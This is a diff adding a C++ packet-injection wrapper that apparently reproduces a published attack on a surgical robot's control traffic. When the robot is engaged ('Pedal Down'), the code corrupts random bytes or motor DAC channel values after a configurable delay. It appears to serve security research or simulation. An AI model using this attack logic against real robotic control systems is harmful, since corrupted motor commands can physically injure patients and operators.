@@ -1,0 +1,64 @@
+#include "attack/injection_wrapper.hpp"
+
+#include <algorithm>
+
+#include "common/error.hpp"
+
+namespace rg {
+
+InjectionWrapper::InjectionWrapper(const InjectionConfig& config)
+    : config_(config), rng_(config.seed) {
+  require(config.random_lo <= config.random_hi, "random_lo must be <= random_hi");
+}
+
+bool InjectionWrapper::on_packet(std::span<std::uint8_t> bytes, std::uint64_t tick) {
+  if (bytes.size() <= config_.state_byte_index) return true;
+
+  // Trigger check: is the robot engaged (Pedal Down)?
+  const std::uint8_t masked = static_cast<std::uint8_t>(
+      bytes[config_.state_byte_index] & static_cast<std::uint8_t>(~config_.watchdog_mask));
+  if (masked != config_.trigger_code) return true;
+
+  const std::uint64_t idx = triggered_seen_++;
+  if (idx < config_.delay_packets) return true;
+  if (config_.duration_packets > 0 &&
+      idx >= static_cast<std::uint64_t>(config_.delay_packets) + config_.duration_packets) {
+    return true;
+  }
+
+  corrupt(bytes);
+  ++injections_;
+  if (!first_tick_) first_tick_ = tick;
+  return true;  // deliver the corrupted packet — that is the attack
+}
+
+void InjectionWrapper::corrupt(std::span<std::uint8_t> bytes) noexcept {
+  switch (config_.mode) {
+    case InjectionConfig::Mode::kRandomByte: {
+      if (config_.target_byte >= bytes.size()) return;
+      bytes[config_.target_byte] = static_cast<std::uint8_t>(
+          rng_.uniform_int(config_.random_lo, config_.random_hi));
+      break;
+    }
+    case InjectionConfig::Mode::kSetChannel:
+    case InjectionConfig::Mode::kAddChannel: {
+      // DAC words live at bytes [1 + 2*ch, 1 + 2*ch + 1], little-endian
+      // (the attacker learned the layout by fuzzing, per the paper).
+      const std::size_t off = 1 + 2 * config_.target_channel;
+      if (off + 1 >= bytes.size()) return;
+      const auto current = static_cast<std::int16_t>(
+          static_cast<std::uint16_t>(bytes[off]) |
+          (static_cast<std::uint16_t>(bytes[off + 1]) << 8));
+      std::int32_t next = (config_.mode == InjectionConfig::Mode::kSetChannel)
+                              ? config_.value
+                              : static_cast<std::int32_t>(current) + config_.value;
+      next = std::clamp(next, -32768, 32767);
+      const auto out = static_cast<std::uint16_t>(static_cast<std::int16_t>(next));
+      bytes[off] = static_cast<std::uint8_t>(out & 0xFF);
+      bytes[off + 1] = static_cast<std::uint8_t>((out >> 8) & 0xFF);
+      break;
+    }
+  }
+}
+
+}  // namespace rg
